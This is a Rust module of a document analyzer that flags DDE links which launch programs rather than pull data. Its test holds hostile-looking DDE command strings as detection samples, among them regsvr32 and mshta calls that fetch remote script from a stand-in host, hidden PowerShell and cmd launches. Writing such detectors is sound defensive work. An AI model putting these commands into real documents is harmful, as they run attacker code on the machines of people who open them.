//! Dynamic data exchange: links that fetch a figure, and links that start a program.

use super::{Analyzer, Findings, Found, Look, Sees};
use crate::knowledge::Knowledge;
use crate::model::Fact;

/// Its row in the table.
pub(super) const ROW: Analyzer = Analyzer {
    name: "dde",
    kinds: &[],
    sees: Sees::Content,
    findings: &["dde-link"],
    run,
};

/// Reports `dde-link` for every link that an unpacker noted.
fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
    for fact in &look.artifact.facts {
        let Fact::Dde { at, command, .. } = fact else {
            continue;
        };
        let mut found = Found::new("dde-link", command);
        if starts_program(command, look.knowledge) {
            found = found.variant("starts-program");
        }
        if let Some(at) = at {
            found = found.at(*at);
        }
        findings.report(found);
    }
}

/// Whether a command line of a link, program, topic and item, starts more than an ordinary source of data.
pub(super) fn starts_program(command: &str, knowledge: &Knowledge) -> bool {
    let command: String = command
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect::<String>()
        .to_lowercase();
    let words: Vec<&str> = command
        .split(|c: char| {
            c.is_whitespace() || matches!(c, '"' | '\'' | '|' | '!' | '\u{201c}' | '\u{201d}' | ',')
        })
        .filter(|word| !word.is_empty())
        .collect();
    let Some((program, rest)) = words.split_first() else {
        return false;
    };
    let name = last_step(program);
    let stem = stem(name, knowledge);
    let gives_data = knowledge.links.data_programs.contains(stem)
        || stem
            .split('.')
            .next()
            .is_some_and(|first| knowledge.links.data_programs.contains(first));
    if knowledge.links.tools.contains(stem) {
        return true;
    }
    // A way to a program instead of its name: data comes from programs that Windows knows by name.
    if !gives_data && (runs(name, knowledge) || program.contains(['\\', '/'])) {
        return true;
    }
    let mut following = rest
        .iter()
        .skip(1)
        .map(|word| word.starts_with(['/', '-']))
        .chain([false]);
    rest.iter().any(|word| {
        let switched = following.next().unwrap_or(false);
        let name = last_step(word);
        let tool = knowledge.links.tools.contains(self::stem(name, knowledge));
        runs(name, knowledge) || tool && (switched || word.contains(".."))
    })
}

fn last_step(path: &str) -> &str {
    path.rsplit(['\\', '/'])
        .next()
        .unwrap_or(path)
        .trim_end_matches(['.', ')', '(', ';', '&'])
}

/// A file name without the extension of a file that runs.
fn stem<'n>(name: &'n str, knowledge: &Knowledge) -> &'n str {
    match name.rsplit_once('.') {
        Some((stem, _)) if runs(name, knowledge) => stem,
        _ => name,
    }
}

/// Whether a file of this name runs. Addresses end like old programs, in `.com`.
pub(super) fn runs(name: &str, knowledge: &Knowledge) -> bool {
    name.rsplit_once('.').is_some_and(|(stem, extension)| {
        let listed = knowledge.links.runs.contains(extension)
            || knowledge
                .indicators
                .executable_extensions
                .contains(extension);
        listed && !stem.is_empty()
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_told_from_data_of_documents() {
        let knowledge = Knowledge::embedded().unwrap();
        for command in [
            r"c:\windows\system32\cmd.exe /k calc.exe",
            "cmd /c calc.exe A0",
            "CMD  ' /C calc' A0",
            r"MSEXCEL \..\..\..\Windows\System32\cmd.exe /c calc",
            r"MSEXCEL \..\..\..\Windows\System32\regsvr32 /s /u /i:http://a.example/x scrobj.dll",
            r"C:\Programs\Microsoft\Office\MSWord.exe\..\..\..\windows\system32\mshta http://a.example",
            "excel x powershell -nop -w hidden",
            r"\\server\share\tool.exe",
            "\"C:\\Program Files\\tool.exe\" x",
        ] {
            assert!(starts_program(command, &knowledge), "{command}");
        }
        for command in [
            r"Excel.Sheet.8 C:\My Documents\Budget.xls Sheet1!R1C1",
            r"excel C:\cmd\net report.xls Sheet1!R1C1",
            "WinWord report.docx bookmark1",
            "Soffice /home/user/budget.ods Sheet1.A1",
            "BLP M IBM US Equity,[PX_LAST]",
            r"C:\Program_Files\Office\excel.exe C:\a.xls R1C1",
            "ünicöde-test",
            "",
        ] {
            assert!(!starts_program(command, &knowledge), "{command}");
        }
    }
}
